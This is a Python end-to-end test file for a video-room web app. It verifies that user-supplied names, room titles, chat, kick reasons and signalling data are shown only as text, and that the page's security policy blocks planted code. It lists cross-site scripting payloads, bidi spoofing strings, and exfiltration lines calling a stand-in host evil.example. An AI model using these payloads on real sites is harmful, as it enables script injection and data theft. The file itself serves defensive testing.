"""W9: whatever others write, in every place where the page shows it, is text; nothing of it runs.

The page sends no files, so there are no names of files to show.
"""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Awaitable, Callable
from typing import Any
from urllib.parse import urlencode

import pytest
import pytest_asyncio
from aiortc.mediastreams import AudioStreamTrack
from playwright.async_api import Browser, Page

from peer.channels.kinds import RELIABLE
from peer.room import JoinOptions, join
from tests.end_to_end.conftest import ServerProcess, eventually, until
from tests.end_to_end.foreign_pages import elsewhere
from tests.end_to_end.looks import _contains, _more, is_, names, reads
from tests.hostile.raw import member

pytestmark = pytest.mark.end_to_end

# From the first line of the page on: what has run, and what the policy has stopped.
WATCH = """
window.ran = [];
window.violations = [];
document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
  window.violations.push(`${effectiveDirective} ${blockedURI}`));
"""
MARKUP = [
    '<img src=x onerror="ran.push(1)">',
    '"><svg><animate onbegin=ran.push(2) attributeName=x dur=1s>',
    "<details open ontoggle=ran.push(3)>x",
    '<iframe srcdoc="<script>parent.ran.push(4)</script>">',
]
WORDS = [
    *MARKUP,
    "<script>ran.push(5)</script>",
    "</title><script>ran.push(6)</script>",
    "javascript:ran.push(7)",
    '<a href="javascript:ran.push(8)">click</a>',
    '{{constructor.constructor("ran.push(9)")()}}${ran.push(9)}',
    "<style>*{display:none}</style>",
    '<base href="//evil.example/"><form action="//evil.example"><button>send',
    "&lt;img src=x onerror=ran.push(10)&gt;",
    "'-ran.push(11)-'\\u003cscript\\u003e",
]
TURNED = [
    "\u202egnp.exe",
    "pay\u200bpal",
    "\u2066\u202elive\u2069",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 <b>!</b>",
]
BUILT = """document.querySelectorAll(
  "img, iframe, object, embed, base, animate, details[open], body style, script:not([src])").length"""

OpenWatched = Callable[..., Awaitable[Page]]


@pytest_asyncio.fixture(loop_scope="session")
async def watched(browser: Browser, server: ServerProcess) -> AsyncIterator[OpenWatched]:
    """Open our page so that nothing escapes; at the end nothing has run, been built or been stopped."""
    pages: list[Page] = []

    async def open_(room: str, name: str, *, joins: bool = True) -> Page:
        context = await browser.new_context()
        await context.add_init_script(WATCH)
        page = await context.new_page()
        pages.append(page)
        query = {"room": room, "name": name, "join": "1" if joins else "0", "camera": "0", "microphone": "0"}
        await page.goto(f"{server.url}/?{urlencode(query)}")
        if joins:
            await until(page, "window.peerlane?.room?.state === 'open'")
        return page

    yield open_
    for page in pages:
        assert await page.evaluate("window.ran") == []
        assert await page.evaluate("window.violations") == []
        assert await page.evaluate(BUILT) == 0
        await page.context.close()


@pytest.mark.parametrize("words", MARKUP)
async def test_w09_a_page_that_took_the_words_for_markup_would_run_them(browser: Browser, words: str) -> None:
    """Without this the others would prove nothing."""
    context = await browser.new_context()
    await context.add_init_script(WATCH)
    page = await context.new_page()
    async with elsewhere() as site:
        await page.goto(site.url())
        await page.evaluate('(words) => { document.body.innerHTML = `<p title="">${words}</p>` }', words)
        await eventually(lambda: _more(page.evaluate("window.ran.length"), 0), "it has run")
    await context.close()


RUN = "'ran.push(1)'"
PLANTED = {
    "a script": f"""
      const made = document.createElement("script");
      made.append({RUN});
      document.body.append(made);""",
    # Not at once: what a test evaluates may evaluate, too.
    "eval": f"setTimeout(() => eval({RUN}))",
    "a function of text": f"setTimeout(() => new Function({RUN})())",
    "a timer of text": f"setTimeout({RUN})",
    "innerHTML": "document.body.innerHTML = '<img src=x onerror=ran.push(1)>'",
    "document.write": "document.write('<script>ran.push(1)</script>')",
    "an attribute that runs": f"document.body.setAttribute('onclick', {RUN})",
    "a script from elsewhere": "document.createElement('script').src = 'data:text/javascript,ran.push(1)'",
    "a picture from elsewhere": "new Image().src = 'http://evil.example/?stolen'",
    "a form to elsewhere": """
      const made = document.createElement("form");
      made.action = "http://evil.example/";
      document.body.append(made);
      made.submit();""",
    "a frame": """
      const made = document.createElement("iframe");
      made.src = "data:text/html,<script>parent.ran.push(1)</script>";
      document.body.append(made);""",
    "a style": "document.body.setAttribute('style', 'display:none')",
    "what leaves by fetch": "fetch('http://evil.example/').catch(() => {})",
}


@pytest.mark.parametrize("code", PLANTED.values(), ids=PLANTED.keys())
async def test_w09_what_somebody_had_planted_is_stopped_and_reported(
    browser: Browser, server: ServerProcess, code: str
) -> None:
    context = await browser.new_context()
    await context.add_init_script(WATCH)
    page = await context.new_page()
    await page.goto(f"{server.url}/?join=0&camera=0&microphone=0")
    await page.evaluate(f"() => {{ try {{ {code} }} catch {{}} }}")
    await eventually(lambda: _more(page.evaluate("window.violations.length"), 0), "it is reported")
    assert await page.evaluate("window.ran") == []
    await context.close()


async def test_w09_assigning_markup_throws_as_trusted_types_ask(watched: OpenWatched) -> None:
    page = await watched("garden", "Ana", joins=False)
    attempt = """() => {
      try {
        document.createElement("p").innerHTML = "<b>x</b>";
      } catch (error) {
        return error.name;
      }
    }"""
    assert await page.evaluate(attempt) == "TypeError"
    assert await page.evaluate("window.violations.splice(0)") == [
        "require-trusted-types-for trusted-types-sink"
    ]


async def test_w09_names_are_text_wherever_they_stand(watched: OpenWatched, server: ServerProcess) -> None:
    ana = await watched("garden", "Ana")
    await ana.click("#people-toggle")
    await ana.keyboard.press("s")
    for words in WORDS:
        async with join(server.url, "garden", name=words, metadata={words: words, "__proto__": {"x": words}}):
            await eventually(lambda words=words: is_(names(ana), {words}), f"{words} is in the list")
            tile = ana.locator(".tile:not(.is-me) .who")
            assert await tile.text_content() == words
            table = ana.locator("#connections-rows th")
            await eventually(
                lambda table=table, words=words: is_(table.all_text_contents(), [words]), "table"
            )
            await ana.click("[data-testid=kick]")
            assert await ana.locator("#confirm-title").text_content() == f"Throw {words} out?"
            await ana.keyboard.press("Escape")
        await eventually(lambda: is_(names(ana), set()), "it has left")
        # A sentence that goes away by itself says it, too.
        assert words in (await ana.locator("#toast").text_content() or "")


@pytest.mark.parametrize("words", [WORDS[0], WORDS[4], WORDS[9]])
async def test_w09_ones_own_name_is_text(watched: OpenWatched, words: str) -> None:
    ana = await watched("garden", words)
    assert await ana.locator(".tile.is-me .who").text_content() == f"{words} (you)"
    await ana.click("#people-toggle")
    assert await ana.locator("[data-testid=roster] .who").first.text_content() == words


@pytest.mark.parametrize("words", [*MARKUP[:3], "<title><script>ran.push(1)", "javascript:ran.push(1)"])
async def test_w09_the_name_of_a_room_is_text_in_title_link_and_waiting_room(
    watched: OpenWatched, server: ServerProcess, words: str
) -> None:
    ana = await watched(words, "Ana")
    assert await ana.locator("#room-title").text_content() == words
    assert await ana.title() == f"{words} · Peerlane"
    assert urlencode({"room": words}) in (await ana.locator("#alone-link").text_content() or "")
    await ana.click("#people-toggle")
    await ana.check("[data-testid=lobby]")
    ben = await watched(words, words, joins=False)
    await until(ana, "window.peerlane.room.settings.has_lobby")
    await ben.click("#join-button")
    await eventually(lambda: is_(ben.locator("#waiting-room").text_content(), words), "he waits there")
    knock = ana.locator("[data-testid=knocks] .who")
    await eventually(lambda: is_(knock.all_text_contents(), [words]), "who waits is shown")


async def test_w09_what_is_written_in_the_chat_is_text(watched: OpenWatched, server: ServerProcess) -> None:
    ana = await watched("garden", "Ana")
    await ana.click("#chat-toggle")
    async with join(server.url, "garden", name=WORDS[0]) as room:
        (peer,) = room.roster
        channel = await peer.open("chat", RELIABLE)
        odd: list[Any] = [7, None, [WORDS[0]], {"toString": WORDS[0]}, {"text": {"text": WORDS[0]}}]
        for value in [*odd, {"__proto__": {"text": WORDS[0]}}, {"text": [WORDS[0]]}]:
            await channel.send(json.dumps(value))
        await channel.send(WORDS[0])
        for words in [*WORDS, *TURNED]:
            await channel.send(json.dumps({"text": words}))
        await reads(ana, TURNED[-1])
        lines = ana.locator("[data-testid=chat-log] li span")
        assert await lines.all_text_contents() == [*WORDS, *TURNED]
        # What turns the direction turns its own line only: who has written it stands before it, as always.
        authors = ana.locator("[data-testid=chat-log] li b")
        assert set(await authors.all_text_contents()) == {WORDS[0]}
        apart = """[...document.querySelectorAll("[data-testid=chat-log] li > *")]
          .map((each) => getComputedStyle(each).unicodeBidi)"""
        assert set(await ana.evaluate(apart)) <= {"isolate", "plaintext"}


@pytest.mark.parametrize("words", [WORDS[0], WORDS[4], "\u202ededaol"])
async def test_w09_the_reasons_that_others_give_are_text(
    watched: OpenWatched, server: ServerProcess, words: str
) -> None:
    async with join(server.url, "garden", name="host", options=JoinOptions(lobby=False)) as room:
        ben = await watched("garden", "Ben")
        await eventually(lambda: len(room.roster) == 1, "Ben is in")
        await room.moderation.kick(room.roster[0].id, reason=words)
        notice = ben.locator("#lobby-notice")
        await eventually(lambda: _contains(notice.text_content(), words), "the reason is shown")


async def test_w09_slots_and_broadcasts_are_never_taken_for_markup(
    watched: OpenWatched, server: ServerProcess
) -> None:
    ana = await watched("garden", "Ana")
    async with join(server.url, "garden", name="program") as room:
        (peer,) = room.roster
        await room.publish(AudioStreamTrack(), slot=WORDS[0])
        for words in WORDS:
            await room.broadcast({"html": words, "text": words, "type": words})
        await until(ana, "window.peerlane.room.roster[0]?.state === 'connected'")
        await until(ana, f"window.peerlane.room.roster[0].media.has({json.dumps(WORDS[0])})")
        assert peer.id == await ana.evaluate("window.peerlane.room.me")


async def test_w09_descriptions_and_candidates_full_of_markup_run_nothing(
    watched: OpenWatched, server: ServerProcess
) -> None:
    ana = await watched("garden", "Ana")
    me = await ana.evaluate("window.peerlane.room.me")
    await ana.evaluate("""() => {
      window.heard = [];
      window.peerlane.room.on("broadcast", ({ payload }) => window.heard.push(payload));
    }""")
    async with member(server.port, "garden", "eve") as eve:
        number = 0
        for words in MARKUP:
            sdp = f"v=0\r\no={words} 1 1 IN IP4 127.0.0.1\r\ns={words}\r\nt=0 0\r\na=ice-ufrag:{words}\r\n"
            candidate = {"candidate": f"candidate:{words}", "sdpMid": words, "usernameFragment": words}
            for payload in (
                {
                    "kind": "description",
                    "generation": 0,
                    "type": "offer",
                    "sdp": sdp,
                    "slots": {words: words},
                },
                {"kind": "description", "generation": 0, "type": "answer", "sdp": sdp},
                {"kind": "candidate", "generation": 0, "candidate": candidate},
                {"kind": "please-offer", "generation": 0, "slots": [{"name": words, "kind": words}]},
                {"kind": words},
                words,
            ):
                number += 1
                await eve.say({"type": "signal", "to": me, "n": number, "payload": payload})
        # It comes after all of them.
        await eve.say({"type": "broadcast", "room": "garden", "payload": "the end"})
        await until(ana, "window.heard.includes('the end')")
        assert await names(ana) == {"eve"}
        # And the page lives: it still talks with others.
        async with join(server.url, "garden", name="ben"):
            await until(ana, "window.peerlane.room.roster.some(({ state }) => state === 'connected')")
